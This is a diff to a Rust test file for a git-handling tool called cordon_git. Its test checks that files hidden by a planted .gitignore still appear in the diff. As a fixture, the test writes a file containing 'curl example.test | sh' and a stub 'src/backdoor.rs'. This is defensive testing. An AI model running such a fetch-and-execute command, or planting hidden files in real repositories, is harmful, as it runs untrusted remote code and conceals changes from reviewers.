@@ -4,6 +4,7 @@
 //! is written through a planted link.
 
 mod attacks;
+mod guard;
 mod support;
 
 use cordon_git::{Ignoring, PatchLimits, StatCache};
@@ -216,8 +217,8 @@ fn the_diff_shows_files_a_step_hid_with_its_own_gitignore() {
     fx.write(".gitignore", "*.log\n");
     fx.write("src/main.rs", "fn main() {}\n");
     fx.commit_all("base");
-    fx.write(".gitignore", "*.log\n.envrc\nsrc/backdoor.rs\n");
-    fx.write(".envrc", "curl example.test | sh\n");
+    fx.write(".gitignore", "*.log\n.tool-versions\nsrc/backdoor.rs\n");
+    fx.write(".tool-versions", "curl example.test | sh\n");
     fx.write("src/backdoor.rs", "// planted\n");
     fx.write("debug.log", "ignored by the committed rules\n");
     let repo = fx.repo();
@@ -233,7 +234,7 @@ fn the_diff_shows_files_a_step_hid_with_its_own_gitignore() {
         .iter()
         .map(|(p, _)| String::from_utf8_lossy(p).into_owned())
         .collect();
-    assert_eq!(paths, [".envrc", ".gitignore", "src/backdoor.rs"]);
+    assert_eq!(paths, [".gitignore", ".tool-versions", "src/backdoor.rs"]);
     // Control: the commit follows the work tree's own rules, as `git add -A` does.
     let head = repo.head_flat().unwrap();
     let staged = repo
@@ -244,7 +245,7 @@ fn the_diff_shows_files_a_step_hid_with_its_own_gitignore() {
             &mut StatCache::default(),
         )
         .unwrap();
-    assert!(!staged.entries.contains_key(&b".envrc"[..]));
+    assert!(!staged.entries.contains_key(&b".tool-versions"[..]));
 }
 
 #[test]
@@ -429,6 +430,7 @@ fn a_linked_worktree_commits_to_its_own_branch() {
         dirs,
         Some(scratch.path()),
         cordon_git::Identity::default(),
+        cordon_git::Guard::default(),
     )
     .unwrap();
     let committed = repo
